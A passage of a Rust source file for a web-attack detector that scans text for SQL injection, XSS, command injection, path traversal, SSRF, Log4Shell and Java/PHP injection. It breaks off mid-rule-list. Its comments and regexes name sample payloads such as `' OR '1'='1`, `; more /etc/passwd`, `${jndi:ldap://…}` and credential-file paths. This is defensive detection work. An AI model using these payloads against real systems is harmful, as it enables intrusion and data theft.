//! Web attacks in arbitrary text: a URI, a query string, a form or JSON body, a header value, or
//! a tool argument an agent is about to send.
//!
//! Kinds (severity high for a clear payload, medium or low for a weak signal):
//! - `sqli`: SQL injection, judged on a token fingerprint rather than on keywords, in the spirit
//!   of libinjection: each value is tokenised into strings, numbers, keywords, functions,
//!   operators, comments, `UNION`, statements and so on, three times (as is, as if inside a
//!   `'`-quoted string, as if inside a `"`-quoted string), and the fingerprints are matched
//!   against attack shapes: a string or number broken out of followed by a logic operator and a
//!   comparison (`' OR '1'='1`), `UNION SELECT`, a stacked statement (`; DROP`), a comment ending
//!   a breakout (`admin'--`), time and error functions (`SLEEP(`, `EXTRACTVALUE(`). The word
//!   "select" in prose is a bare keyword among words and never fires. Short values made only of
//!   SQL tokens (`1 XOR 2 <`, `CONCAT(`) are reported at low severity.
//! - `xss`: script tags, event handlers in tags (`<svg/onload=`), `javascript:`/`vbscript:`
//!   URIs, `data:text/html`, `srcdoc`, CSS expressions, and DOM sinks in script-like context.
//! - `command_injection`: a shell separator (`;`, `|`, `&&`, `` ` ``, `$(`, a new line) or the start
//!   of a value followed by a known command, with an argument that reads as shell when the
//!   command is also an English word (`; more /etc/passwd` fires, `a hero; more than` does not);
//!   shell obfuscation (`c\at`, `ca''t`, `$IFS`, `/???/??t`), reverse shells, Windows `cmd /c`,
//!   `for /f`, PowerShell, and mail-protocol injection after an encoded new line.
//! - `path_traversal`: `../` sequences in all their encodings (`%2e%2e%2f`, `..%c0%af`, `....//`)
//!   and sensitive files (`/etc/passwd`, `/proc/self/environ`, `win.ini`, `.ssh/id_rsa`, `.env`).
//! - `ssrf`: URLs or hosts pointing inside: cloud metadata (169.254.169.254,
//!   metadata.google.internal, fd00:ec2::254, 100.100.100.200), loopback, private ranges, IPs in
//!   decimal, hex or octal, IPv4-mapped IPv6, and the `gopher`, `dict`, `file`, `jar` schemes.
//! - `template_injection`: `{{7*7}}`, `${7*7}`, `<%= %>`, `#{}`, Jinja/Twig object walks, Freemarker
//!   and Velocity directives, Spring `T(java.lang.Runtime)` and Log4Shell `${jndi:ldap://…}`
//!   including its `${lower:j}` obfuscations.
//! - `php_injection`, `java_injection`, `code_injection` (Node.js, Python, prototype pollution)
//!   and `rfi` (remote file inclusion), so that findings line up with the CRS rule families
//!   933, 944, 934 and 931.
//!
//! Every rule runs on one decoded, lower-cased view of the whole text: percent-encoding (also
//! `%uXXXX` and double encoding), HTML entities, `\xHH` and `\uXXXX` escapes, and overlong UTF-8
//! slashes and dots, peeled at most twice in one linear pass each, with a byte map back to the
//! original so spans stay exact. Rules are regexes (linear-time engines) gated by cheap anchor
//! checks, plus two small hand-written scanners (the SQL tokeniser and the command scanner).
//!
//! Prose is told from payloads by shape, not by vocabulary: a SQL shape among mostly bare words
//! (judged in a window around the match, so a payload deep in a long line is still seen) is
//! dropped unless it needs `UNION`, `;` or a comment to form; operators of programming languages
//! (`==`, `=>`, `:`) mark code, not SQL; and a command word that is also English (`time`, `more`,
//! `find`) needs a shell-looking argument (`-la`, `/etc`, a pipe) to count.
//!
//! Trade-offs: a detector that sees text, not an HTTP parse, cannot know which parameter is
//! user-controlled, so the SQL and command checks split the text into values at new lines,
//! `&`, `?` and the first `=` (escaped ones, `%26`, `%3D`, are data) and a value is judged alone.
//! A pair encoded once more (`pay%3D…`) is judged whole and also after its escaped `=`, since an
//! application may decode twice; a markdown table row is judged cell by cell, so words in one
//! cell and a quote in another do not make a SQL shape.
//! A full SQL query or a shell command quoted in an ordinary chat message ("run
//! `cat /etc/passwd`") is reported (medium or high); prose that merely mentions SQL or shell
//! words is not. Markup that is ordinary in HTML answers (`<style>`, `<svg>`, `<meta>`) is not
//! reported alone, only with a handler, a script URL or a dangerous attribute. Throughput is
//! bounded by some two dozen regex passes on text that contains their anchors (about 20 MB/s on
//! 4 KiB of the bench's mixed text on one shared core; a profile puts about half of the time in
//! the hand-written scanners (SQL tokeniser and judge, command scan, decoding), a fifth in the
//! regexes and a tenth in the anchor automaton), far below the cheap detectors: the place to win speed is one combined prefilter
//! automaton, not more rules.

use std::sync::LazyLock;

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
use regex::bytes::{Regex, RegexBuilder};

use crate::{Detector, DetectorId, Finding, Normalized, Severity, Span};

/// Finds web attack payloads; see the module documentation.
#[derive(Debug, Default)]
pub struct WebAttackDetector {
    // Not a unit struct, so that options can be added without breaking `default()` callers.
    _options: (),
}

impl Detector for WebAttackDetector {
    fn id(&self) -> DetectorId {
        DetectorId::WebAttack
    }

    fn detect(&self, input: &Normalized<'_>, out: &mut Vec<Finding>) {
        let text = input.original();
        if text.len() < 2 {
            return;
        }
        let view = View::new(text);
        let mut found: Vec<Hit> = Vec::new();
        regex_rules(&view.bytes, &mut found);
        sql_scan(&view.bytes, &view, &mut found);
        command_scan(&view.bytes, &view, &mut found);
        // One finding per kind and place: keep the strongest of overlapping hits.
        found.sort_by(|a, b| {
            a.kind
                .cmp(b.kind)
                .then(a.start.cmp(&b.start))
                .then(b.severity.cmp(&a.severity))
        });
        let mut last: Option<(&'static str, usize, usize)> = None;
        for h in found {
            if let Some((k, _, e)) = last {
                if k == h.kind && h.start < e {
                    continue;
                }
            }
            last = Some((h.kind, h.start, h.end));
            let span = view.span(h.start, h.end);
            if span.is_empty() {
                continue;
            }
            out.push(Finding::new(
                DetectorId::WebAttack,
                h.kind,
                h.severity,
                h.confidence,
                span,
            ));
        }
    }
}

/// A match on the decoded view.
#[derive(Debug, Clone)]
struct Hit {
    kind: &'static str,
    severity: Severity,
    confidence: f32,
    start: usize,
    end: usize,
}

fn hit(kind: &'static str, severity: Severity, confidence: f32, start: usize, end: usize) -> Hit {
    Hit {
        kind,
        severity,
        confidence,
        start,
        end,
    }
}

// ---------------------------------------------------------------------------------------------
// The decoded view

/// The text decoded and lower-cased, with a map from each byte back to the original.
struct View<'a> {
    original: &'a str,
    bytes: Vec<u8>,
    /// Original offset of each byte of `bytes`; `None` when the view is the identity.
    map: Option<Vec<u32>>,
    /// For each byte, whether it came from an escape (`%0a`, `&#10;`), not a literal byte.
    escaped: Option<Vec<bool>>,
}

impl<'a> View<'a> {
    fn new(original: &'a str) -> Self {
        let raw = original.as_bytes();
        // Decode only when something is escaped, or `+` may stand for a space.
        let needs = memchr::memchr3_iter(b'%', b'&', b'\\', raw).any(|i| {
            let c = raw.get(i + 1).copied().unwrap_or(0);
            match raw.get(i) {
                Some(b'%') => c.is_ascii_hexdigit() || c == b'u' || c == b'U',
                Some(b'&') => c.is_ascii_alphabetic() || c == b'#',
                _ => matches!(c, b'x' | b'X' | b'u'),
            }
        }) || memchr::memchr(b'+', raw).is_some();
        if !needs {
            return View {
                original,
                bytes: raw.to_ascii_lowercase(),
                map: None,
                escaped: None,
            };
        }
        let mut bytes: Vec<u8> = raw.to_vec();
        let mut map: Vec<u32> = (0..raw.len() as u32).collect();
        let mut escaped = vec![false; raw.len()];
        for _ in 0..2 {
            let (b, m, e) = decode_pass(&bytes, &map, &escaped);
            let changed = b.len() != bytes.len() || b != bytes;
            bytes = b;
            map = m;
            escaped = e;
            if !changed {
                break;
            }
        }
        bytes.make_ascii_lowercase();
        View {
            original,
            bytes,
            map: Some(map),
            escaped: Some(escaped),
        }
    }

    /// Whether byte `i` of the view came from an escape sequence.
    fn is_escaped(&self, i: usize) -> bool {
        self.escaped
            .as_ref()
            .and_then(|e| e.get(i).copied())
            .unwrap_or(false)
    }

    /// The original span covering view bytes `[start, end)`, widened to char boundaries.
    fn span(&self, start: usize, end: usize) -> Span {
        let o = self.original;
        let (s, e) = match &self.map {
            None => (start.min(o.len()), end.min(o.len())),
            Some(map) => {
                let s = map.get(start).copied().unwrap_or(o.len() as u32) as usize;
                let last = end.saturating_sub(1);
                let last_orig = map.get(last).copied().unwrap_or(o.len() as u32) as usize;
                // The original unit that produced the last byte ends where the next unit starts.
                let mut e = o.len();
                for j in end..end.saturating_add(16) {
                    match map.get(j) {
                        Some(&m) if m as usize > last_orig => {
                            e = m as usize;
                            break;
                        }
                        Some(_) => {}
                        None => break,
                    }
                }
                (s.min(o.len()), e.max(s).min(o.len()))
            }
        };
        let mut s = s;
        while s > 0 && !o.is_char_boundary(s) {
            s -= 1;
        }
        let mut e = e.max(s);
        while e < o.len() && !o.is_char_boundary(e) {
            e += 1;
        }
        Span::new(s, e)
    }
}

fn hex(b: u8) -> Option<u8> {
    match b {
        b'0'..=b'9' => Some(b - b'0'),
        b'a'..=b'f' => Some(b - b'a' + 10),
        b'A'..=b'F' => Some(b - b'A' + 10),
        _ => None,
    }
}

fn push_char(out: &mut Vec<u8>, c: u32) {
    let ch = char::from_u32(c).unwrap_or('\u{FFFD}');
    let mut buf = [0u8; 4];
    out.extend_from_slice(ch.encode_utf8(&mut buf).as_bytes());
}

/// One left-to-right decoding pass over `src`, carrying the byte map along.
fn decode_pass(src: &[u8], map: &[u32], esc: &[bool]) -> (Vec<u8>, Vec<u32>, Vec<bool>) {
    let mut out = Vec::with_capacity(src.len());
    let mut omap = Vec::with_capacity(src.len());
    let mut oesc = Vec::with_capacity(src.len());
    let mut i = 0;
    let at = |i: usize| src.get(i).copied().unwrap_or(0);
    while i < src.len() {
        let b = at(i);
        let origin = map.get(i).copied().unwrap_or(0);
        let before = out.len();
        let mut used = 1;
        let mut decoded = true;
        match b {
            b'%' => {
                if let (Some(h), Some(l)) = (hex(at(i + 1)), hex(at(i + 2))) {
                    out.push(h << 4 | l);
                    used = 3;
                } else if matches!(at(i + 1), b'u' | b'U') {
                    let v =
                        (2..6).try_fold(0u32, |acc, k| hex(at(i + k)).map(|d| acc * 16 + d as u32));
                    match v {
                        Some(v) => {
                            push_char(&mut out, v);
                            used = 6;
                        }
                        None => {
                            out.push(b);
                            decoded = false;
                        }
                    }
                } else {
                    out.push(b);
                    decoded = false;
                }
            }
            b'+' => {
                out.push(b' ');
                decoded = false;
            }
            b'\\' if matches!(at(i + 1), b'x' | b'X') => {
                if let (Some(h), Some(l)) = (hex(at(i + 2)), hex(at(i + 3))) {
                    out.push(h << 4 | l);
                    used = 4;
                } else {
                    out.push(b);
                    decoded = false;
                }
            }
            b'\\' if at(i + 1) == b'u' => {
                let v = (2..6).try_fold(0u32, |acc, k| hex(at(i + k)).map(|d| acc * 16 + d as u32));
                match v {
                    Some(v) => {
                        push_char(&mut out, v);
                        used = 6;
                    }
                    None => {
                        out.push(b);
                        decoded = false;
                    }
                }
            }
            b'&' => match html_entity(src.get(i..).unwrap_or_default()) {
                Some((c, n)) => {
                    push_char(&mut out, c);
                    used = n;
                }
                None => {
                    out.push(b);
                    decoded = false;
                }
            },
            _ => {
                out.push(b);
                decoded = false;
            }
        }
        let was_escaped = decoded || esc.get(i).copied().unwrap_or(false);
        for _ in before..out.len() {
            omap.push(origin);
            oesc.push(was_escaped);
        }
        i += used;
    }
    fix_overlong(&mut out, &mut omap, &mut oesc);
    (out, omap, oesc)
}

/// Replaces overlong UTF-8 encodings of `/`, `.` and `\` (`%c0%af`, `%c0%ae`, `%c1%9c`, and the
/// three-byte `%e0%80%af`) with the ASCII byte, as vulnerable decoders do.
fn fix_overlong(out: &mut Vec<u8>, map: &mut Vec<u32>, esc: &mut Vec<bool>) {
    if !out.iter().any(|&b| b == 0xc0 || b == 0xc1 || b == 0xe0) {
        return;
    }
    let mut w = 0;
    let mut r = 0;
    while r < out.len() {
        let b = out.get(r).copied().unwrap_or(0);
        let n = out.get(r + 1).copied().unwrap_or(0);
        let n2 = out.get(r + 2).copied().unwrap_or(0);
        let (val, used) = match (b, n) {
            (0xc0, 0xaf) | (0xc0, 0x2f) => (Some(b'/'), 2),
            (0xc0, 0xae) | (0xc0, 0x2e) => (Some(b'.'), 2),
            (0xc1, 0x9c) | (0xc1, 0x1c) => (Some(b'\\'), 2),
            (0xe0, 0x80) if n2 == 0xaf => (Some(b'/'), 3),
            (0xe0, 0x80) if n2 == 0xae => (Some(b'.'), 3),
            _ => (None, 1),
        };
        let m = map.get(r).copied().unwrap_or(0);
        let e = esc.get(r).copied().unwrap_or(false);
        if let (Some(slot), Some(ms), Some(es)) = (out.get_mut(w), map.get_mut(w), esc.get_mut(w)) {
            *slot = val.unwrap_or(b);
            *ms = m;
            *es = e;
        }
        w += 1;
        r += used;
    }
    out.truncate(w);
    map.truncate(w);
    esc.truncate(w);
}

/// Decodes one HTML character reference at the start of `s` (`&lt;`, `&#60;`, `&#x3c;`, also
/// without the `;`). Returns the character and the bytes used.
fn html_entity(s: &[u8]) -> Option<(u32, usize)> {
    if s.get(1) == Some(&b'#') {
        let (radix, from) = if matches!(s.get(2), Some(b'x' | b'X')) {
            (16, 3)
        } else {
            (10, 2)
        };
        let digits = s
            .iter()
            .skip(from)
            .take(40)
            .take_while(|b| {
                if radix == 16 {
                    b.is_ascii_hexdigit()
                } else {
                    b.is_ascii_digit()
                }
            })
            .count();
        if digits == 0 {
            return None;
        }
        let mut v: u32 = 0;
        for &d in s.get(from..from + digits)? {
            v = v.saturating_mul(radix).saturating_add(hex(d)? as u32);
        }
        let mut used = from + digits;
        if s.get(used) == Some(&b';') {
            used += 1;
        }
        return Some((v.min(0x10FFFF), used));
    }
    const NAMED: &[(&[u8], u32)] = &[
        (b"lt", '<' as u32),
        (b"gt", '>' as u32),
        (b"amp", '&' as u32),
        (b"quot", '"' as u32),
        (b"apos", '\'' as u32),
        (b"colon", ':' as u32),
        (b"lpar", '(' as u32),
        (b"rpar", ')' as u32),
        (b"sol", '/' as u32),
        (b"bsol", '\\' as u32),
        (b"equals", '=' as u32),
        (b"tab", '\t' as u32),
        (b"newline", '\n' as u32),
        (b"nbsp", ' ' as u32),
        (b"lbrace", '{' as u32),
        (b"rbrace", '}' as u32),
        (b"lsqb", '[' as u32),
        (b"rsqb", ']' as u32),
        (b"period", '.' as u32),
        (b"semi", ';' as u32),
        (b"excl", '!' as u32),
        (b"dollar", '$' as u32),
        (b"grave", '`' as u32),
        (b"num", '#' as u32),
    ];
    let name_len = s
        .iter()
        .skip(1)
        .take(10)
        .take_while(|b| b.is_ascii_alphabetic())
        .count();
    let name = s.get(1..1 + name_len)?;
    let (_, c) = NAMED.iter().find(|(n, _)| n.eq_ignore_ascii_case(name))?;
    let mut used = 1 + name_len;
    if s.get(used) == Some(&b';') {
        used += 1;
    } else if name_len < 4 {
        // Short names without `;` are ordinary text (`&lt` inside a word is rare, `&amp` is not).
        return None;
    }
    Some((*c, used))
}

// ---------------------------------------------------------------------------------------------
// Regex rules

struct Rule {
    kind: &'static str,
    severity: Severity,
    confidence: f32,
    /// Any of these bytes strings must occur for the regex to run (cheap gate).
    anchors: &'static [&'static str],
    re: Regex,
}

struct Rules {
    rules: Vec<Rule>,
    /// Aho-Corasick over every anchor of every rule.
    anchors: Option<AhoCorasick>,
    /// For each anchor pattern, the rules it gates.
    anchor_rules: Vec<Vec<usize>>,
    /// Per rule, single-byte anchors: the rule runs when any of these bytes occurs. A byte
    /// lookup is cheaper than making the automaton report every `(` or `<`.
    any_bytes: Vec<Vec<u8>>,
    /// Per rule, bytes that must all occur (`^=` in the anchor list means `=` is required).
    all_bytes: Vec<Vec<u8>>,
}

fn rule(
    kind: &'static str,
    severity: Severity,
    confidence: f32,
    anchors: &'static [&'static str],
    pattern: &str,
) -> Option<Rule> {
    let re = RegexBuilder::new(pattern)
        .unicode(false)
        .size_limit(8 << 20)
        .build()
        .ok()?;
    Some(Rule {
        kind,
        severity,
        confidence,
        anchors,
        re,
    })
}

use Severity::{High, Low, Medium};

static RULES: LazyLock<Rules> = LazyLock::new(|| {
    let list: Vec<Option<Rule>> = vec![
        // ---- XSS
        rule(
            "xss",
            High,
            0.95,
            &["<script", "</script", "script>", ":script", ": script"],
            // Also a namespaced script element (`<x:script xmlns:x=…>`).
            r"<\s*/?\s*(?:[a-z][a-z0-9_-]{0,20}\s*:\s*)?script\b|\bscript\s*>",
        ),
        rule(
            "xss",
            High,
            0.95,
            &["="],
            &format!(r#"(?:<[a-z!?/:][^>]{{0,400}}?["'`;\s/]|["'`;\s/]|^)on(?:{EVENTS})\s*="#),
        ),
        rule(
            "xss",
            Medium,
            0.7,
            &["="],
            r#"<[a-z][a-z0-9:-]*(?:\s|/)[^>]{0,300}?(?:\s|/|")on[a-z]{3,30}\s*="#,
        ),
        rule(
            "xss",
            High,
            0.9,
            &[
                "script",
                "s c r i p t",
                "formaction",
                "+ad",
                "implementation",
                "vmlframe",
                "<",
                "schemalocation",
                "xi:include",
                "entity",
                "atob",
                "btoa",
                "setinterval",
                "settimeout",
            ],
            r#"(?:j\s*a\s*v\s*a|v\s*b|l\s*i\s*v\s*e)\s*s\s*c\s*r\s*i\s*p\s*t\s*:+\s*[^\s:,][^\s]{0,3}|(?:href|src|action|formaction|data|xlink:href|background|url|location|poster|srcdoc|to|from|values)\s*[=(]\s*["'`]?\s*(?:java|vb|live)script\b|(?:j\s*a\s*v\s*a|v\s*b)\s*s\s*c\s*r\s*i\s*p\s*t\s*:+\s*(?:$|["'`\n&=])|['"\s]formaction\s*=|\+ad[wz4]-|implementation\s*=|<\s*[a-z]*:?vmlframe\b|<\s*(?:[a-z]\s+){3,}[a-z]\b|xsi:schemalocation\s*=|<\s*xi:include\b|!entity\s+%?\s*[a-z0-9_]+\s+(?:system|public)\b|\b(?:atob|btoa)\s*\(|\bset(?:interval|timeout)\s*\(\s*[a-z'"`]"#,
        ),
        rule(
            "xss",
            High,
            0.9,
            &["data:"],
            r"data:\s*(?:text/(?:html|xml|javascript)|application/(?:x-)?(?:javascript|ecmascript|xhtml)|image/svg\+xml)",
        ),
        rule("xss", High, 0.9, &["srcdoc"], r"\bsrcdoc\s*="),
        rule(
            "xss",
            High,
            0.9,
            &["<"],
            r"<\s*(?:iframe|frame|frameset|object|embed|applet|base|xss|isindex|vmlframe|import|animate|set|handler|listener)\b[^>]{0,400}?(?:\bsrc|\bhref|\bdata|\bcode|\baction|\bformaction|\bimplementation|\bxmlns|\bstyle|\bbackground|\bdynsrc|\blowsrc|\battributename|\bvalues|\bto)\s*=|<\s*meta\b[^>]{0,400}?\bhttp-equiv\s*=|<\s*link\b[^>]{0,400}?\brel\s*=\s*[\x22']?\s*import\b|<\s*(?:img|image|video|audio|source|input|body|style|svg|math|xml|a|form|button|details|dialog|template|marquee)\b[^>]{0,400}?(?:\bdynsrc|\blowsrc|\bformaction|\bstyle\s*=\s*[\x22']?[^\x22'>]{0,80}(?:expression|behavior|-moz-binding|url\s*\(\s*[\x22']?\s*(?:java|vb)script))",
        ),
        rule(
            "xss",
            Medium,
            0.75,
            &["<"],
            r"<\s*(?:iframe|frame|frameset|object|embed|applet|base|xss|isindex|vmlframe|:vmlframe|keygen|plaintext|xmp|noembed)\b",
        ),
        rule(
            "xss",
            Medium,
            0.7,
            &["<"],
            r"<\s*(?:a|img|image|video|audio|input|form|button|div|span|p|table|td|x|link|f\s*o\s*r\s*m)(?:[\s/>]|$)[^<>]{0,200}?(?:>|$)",
        ),
        rule(
            "xss",
            High,
            0.85,
            &["expression", "moz-binding", "behavior", "@import"],
            r"\bexpression\s*\(|-moz-binding\s*:|\bbehavior\s*:\s*url|@\s*import\b",
        ),
        rule(
            "xss",
            High,
            0.85,
            &["document", "window", "location", "cookie", "^."],
            r"\b(?:document\s*(?:/\*.*?\*/\s*)?\.?\s*(?:/\*.*?\*/\s*)?(?:\.\s*|\[\s*['\x22])(?:cookie|domain|write|writeln|location|body|createelement|getelementby|queryselector|documentelement|forms|url|referrer)|window\s*\.\s*(?:location|open|name|eval)|location\s*\.\s*(?:href|hash|replace|assign|search)\s*=?|(?:^|[^a-z])self\s*\[|top\s*\[\s*['\x22]|\.innerhtml\s*=|\.outerhtml\s*=)",
        ),
        rule(
            "xss",
            High,
            0.85,
            &[
                "document",
                "window",
                "self",
                "top",
                "parent",
                "frames",
                "globalthis",
            ],
            r#"\b(?:document|window|self|top|parent|frames|globalthis)\s*(?:/\*[^*]{0,40}\*/\s*)*\)?\s*(?:\.\s*(?:/\*[^*]{0,40}\*/\s*)+[a-z]|\[\s*(?:/\*[^*]{0,40}\*/\s*)*["'`][a-z$\\])"#,
        ),
        rule(
            "xss",
            High,
            0.85,
            &[
                "alert",
                "prompt",
                "confirm",
                "eval",
                "settimeout",
                "setinterval",
                "fromcharcode",
                "atob",
                "constructor",
                "import(",
            ],
            r#"(?:^|[^a-z0-9_.])(?:alert|confirm|execscript|msgbox)\s*(?:\(|`)|(?:^|[^a-z0-9_.])(?:prompt|eval|settimeout|setinterval)\s*(?:\(\s*(?:['"`]|atob|string|unescape|decodeuri|location|document|name|window|this|top|self|\))|`)|\batob\s*\(\s*['"]|string\s*\.\s*fromcharcode|\bconstructor\s*\(\s*['"`]|\bimport\s*\(\s*['"`]\s*(?:data|https?):"#,
        ),
        rule(
            "xss",
            High,
            0.9,
            &["[]", "!+", "reflect", ".call", ".apply", ".bind"],
            r"!\s*\[\s*\][\s+]*\[\s*\]|[+\s]!\s*!\s*\[\s*\]|\[\s*[+\s]\s*!\s*[+\s]\s*\[\s*\]\s*\]|\[\s*\]\s*\[\s*\(|\.\s*(?:call|apply|bind)\s*`|\breflect\s*\.\s*(?:apply|construct|get|set)\b|\[\s*\]\s*\.\s*(?:sort|map|filter|constructor|find|every|reduce)\s*\.?\s*(?:call|apply|bind|\()",
        ),
        rule(
            "xss",
            Medium,
            0.7,
            &["<!--#", "<![cdata["],
            r"<!--\s*#\s*(?:exec|include|echo|config)|<!\[cdata\[[^\]]{0,80}<",
        ),
        rule(
            "xss",
            High,
            0.85,
            &["${", "`"],
            r"`[^`]{0,40}\$\{\s*(?:alert|eval|prompt|confirm|document|window)",
        ),
        // ---- Template injection, expression languages, Log4Shell
        rule(
            "template_injection",
            High,
            0.95,
            &["${", "$%7b", "jndi"],
            r"\$\{[^}]{0,120}?(?:j|\$\{[^}]{0,40}\})[^}]{0,80}?(?:n|\$\{[^}]{0,40}\})[^}]{0,80}?(?:d|\$\{[^}]{0,40}\})[^}]{0,80}?(?:i|\$\{[^}]{0,40}\})\s*(?:\}\s*)?:|\bjndi\s*:\s*(?:ldaps?|rmi|dns|iiop|corba|nds|nis|https?)\s*:",
        ),
        rule(
            "template_injection",
            High,
            0.9,
            &["{{", "{%"],
            r#"\{\{[^}]{0,200}?(?:\d\s*[*+/-]\s*\d|__[a-z]+__|\bconfig\b|\bself\b|\brequest\b|\blipsum\b|\bcycler\b|\bjoiner\b|\bnamespace\b|\bsettings\b|\b_self\b|\benv\b|\bgetattr\b|\bimport\b|\bsystem\b|\bpopen\b|\bexec\b|\bconstructor\b|\[\s*['"]|\|\s*(?:attr|map|filter|join|first|last|e|escape|safe|lower|upper)\b)|\{%\s*(?:import|include|set|for|if|debug|extends|block|macro|call|filter|raw|python|load)\b"#,
        ),
        rule(
            "template_injection",
            High,
            0.9,
            &[
                "${", "#{", "*{", "@{", "~{", "<%", "#set", "#foreach", "<#", "$%7b", "java.",
            ],
            r#"(?:\$|#|\*|@|~)\{\s*(?:\d+\s*[*+/-]\s*\d+|[a-z_."'\[\]()]*?(?:\bt\s*\(|runtime|getruntime|processbuilder|getclass|forname|class\.|classloader|exec\s*\(|__|request\.|application\.|session\.|param\.|header\.|cookie\.|facescontext|freemarker|velocity|\.getclass|@java|new\s+java))|<%[=-]?\s*[^%]{0,200}?(?:\d\s*[*+/-]\s*\d|\(|`|system|exec|eval|runtime|process|require|import)[^%]{0,200}?%>|<%\s*@|#set\s*\(|#foreach\s*\(|\$class\.|<#(?:assign|if|list|include|import|macro|function|setting)\b|\?new\s*\(|\bt\s*\(\s*java\.|__\$\{|\$\{\s*\d+\s*[*+/-]\s*\d+\s*\}|#\{\s*\d+\s*[*+/-]\s*\d+\s*\}"#,
        ),
        // ---- Java
        rule(
            "java_injection",
            High,
            0.9,
            &[
                "java.",
                "javax.",
                "runtime",
                "processbuilder",
                "rO0ab",
                "ro0ab",
                "aced0005",
                "com.sun",
                "org.apache",
                "classloader",
                "getclass",
                "forname",
                "clonetransformer",
                "invokertransformer",
                "instantiate",
                "prototype",
                "forclosure",
                "whileclosure",
                "xwork",
                "ognl",
                "beanutils",
                ".jsp",
                "struts",
            ],
            r"\bjava\.(?:lang|io|net|util|nio|beans|rmi)\.[a-z]+|\bjavax\.(?:script|naming|management|xml)\b|\bjava\.[a-z]*\.?(?:runtime|processbuilder|evil)|\b(?:getruntime|processbuilder|classloader|getclass|forname|getmethod|getdeclaredmethod|newinstance|invoke)\s*\(|\b(?:runtime|processbuilder)\s*\.\s*(?:exec|start|getruntime|[a-z]*(?:transformer|factory|closure))\b|\b(?:clonetransformer|invokertransformer|instantiatefactory|instantiatetransformer|forclosure|whileclosure|prototypeclonefactory|prototypeserializationfactory|chainedtransformer|constanttransformer|lazymap|templatesimpl|jdbcrowsetimpl)\b|\bro0ab|\baced0005|\bcom\.(?:sun\.(?:org|jndi|rowset)|opensymphony\.xwork2)|\borg\.(?:apache\.(?:commons|xalan|struts|tomcat|catalina|naming)|springframework\.(?:context|beans)|codehaus\.groovy)|\bognl\b|#_memberaccess|@ognl|\.getruntime\b",
        ),
        rule(
            "java_injection",
            Medium,
            0.7,
            &["ro0", "kztaa", "cs7qa", "h4sia", "yo0ab", "ojgdab"],
            r"(?:^|[^a-z0-9+/])(?:ro0ab|kztaa|cs7qa|h4siaaaaaaaa|yo0ab)",
        ),
        rule(
            "java_injection",
            Medium,
            0.75,
            &[
                "cnvudgltz",
                "hj1bnrpbwu",
                "cnvudgltzq",
                "chjvy2vzc2j1awxkzx",
                "bwcm9jzxnzyn",
                "jsb25ldhjhbnnmb3jtzx",
                "bjbg9uzxryyw5zzm9ybwvy",
                "gzvcmnsb3n1cm",
                "zvcmnsb3n1cmu",
                "aw5zdgfudglhdgv",
                "bpbnn0yw50awf0z",
                "pbnn0yw50awf0z",
                "aw52b2tlcnryyw5zzm9ybwvy",
                "gludm9rzxj0cmfuc2zvcm1lc",
                "ludm9rzxj0cmfuc2zvcm1lc",
                "chjvdg90exbl",
                "bwcm90b3r5cgv",
                "jwcm90b3r5cgv",
                "d2hpbgvjbg9zdxjl",
                "hdoawxly2xvc3vyz",
                "dagltzwnsb3n1cm",
                "y2xvbmv0cmfuc2zvcm1lc",
                "nsb25ldhjhbnnmb3jtzx",
                "jsb25ldhjhbnnm",
                "amf2ys5sYW5n",
                "amf2ys5syw5n",
                "phbybmnlc3npbmc",
                "zm9yy2xvc3vyz",
                "gzvcmnsb3n1",
                "zvcmnsb3n1",
            ],
            r"(?:cnvudgltz|hj1bnrpbwu|chjvy2vzc2j1awxkzx|bwcm9jzxnzyn|jwcm9jzxnzyn|y2xvbmv0cmfuc2zvcm1lc|nsb25ldhjhbnnmb3jtzx|jsb25ldhjhbnnm|bjbg9uzxryyw5zzm9ybwvy|zm9yy2xvc3vyz|gzvcmnsb3n1|zvcmnsb3n1|aw5zdgfudglhdgv|bpbnn0yw50awf0z|pbnn0yw50awf0z|aw52b2tlcnryyw5zzm9ybwvy|gludm9rzxj0cmfuc2zvcm1lc|ludm9rzxj0cmfuc2zvcm1lc|chjvdg90exbl|bwcm90b3r5cgv|jwcm90b3r5cgv|d2hpbgvjbg9zdxjl|hdoawxly2xvc3vyz|dagltzwnsb3n1cm|amf2ys5syw5n)",
        ),
        // ---- PHP
        rule(
            "php_injection",
            High,
            0.9,
            &["<?", "[php]"],
            r"<\?(?:php\b|=|\s+(?:php\b|\$|[a-z_][a-z0-9_]*\s*(?:[(=;\[$'\x22]|->|::)|\?>|$)|[a-z]{0,8}\s*[;:(]|\s*(?:echo|print|system|eval|assert|exec|passthru|include|require)\b)|<\?\s*\n\s*php|\[php\]",
        ),
        rule(
            "php_injection",
            High,
            0.9,
            &["$_", "$globals", "$http_"],
            r"\$_(?:get|post|request|cookie|server|files|env|session)\b|\$globals\b|\$http_(?:get|post|cookie|raw_post_data|server)_vars|\$_\s*[a-z%]*\s*(?:\[|\{)",
        ),
        rule(
            "php_injection",
            High,
            0.9,
            &["(", "`"],
            r#"(?:^|[^a-z0-9_.>$:])(?:system|exec|passthru|shell_exec|popen|proc_open|pcntl_exec|eval|assert|create_function|call_user_func(?:_array)?|preg_replace|base64_decode|gzinflate|gzuncompress|str_rot13|phpinfo|file_get_contents|file_put_contents|fopen|fwrite|readfile|include|include_once|require|require_once|highlight_file|show_source|unserialize|serialize|array_map|usort|ob_start|register_shutdown_function|extract|parse_str|putenv|ini_set|ini_get|mail|dl|chmod|unlink|rename|symlink|move_uploaded_file|copy|bzdecompress|file_exists|is_writable|posix_getpwuid|getenv|escapeshellcmd|var_dump|print_r|var_export|phpversion|get_defined_vars)\s*(?:/\*.*?\*/\s*|#[^\n]*\n\s*)*\(\s*(?:['"$@`(]|[a-z_]+\s*\(|\)|[a-z_]+\s*\)|\d)"#,
        ),
        rule(
            "php_injection",
            High,
            0.9,
            &[":", "^{"],
            r#"(?:^|[^a-z0-9])[oc]:\d+:"[a-z_\\][a-z0-9_\\]*":\d+:\{|(?:^|[^a-z0-9])a:\d+:\{(?:s|i|o|a|b|d):"#,
        ),
        rule(
            "php_injection",
            High,
            0.85,
            &["://"],
            r"\b(?:php|phar|zip|compress\.zlib|compress\.bzip2|glob|expect|ssh2\.(?:shell|exec|tunnel|sftp|scp)|rar|ogg|zlib|data|input)://",
        ),
        rule(
            "php_injection",
            Medium,
            0.7,
            &["$", "^("],
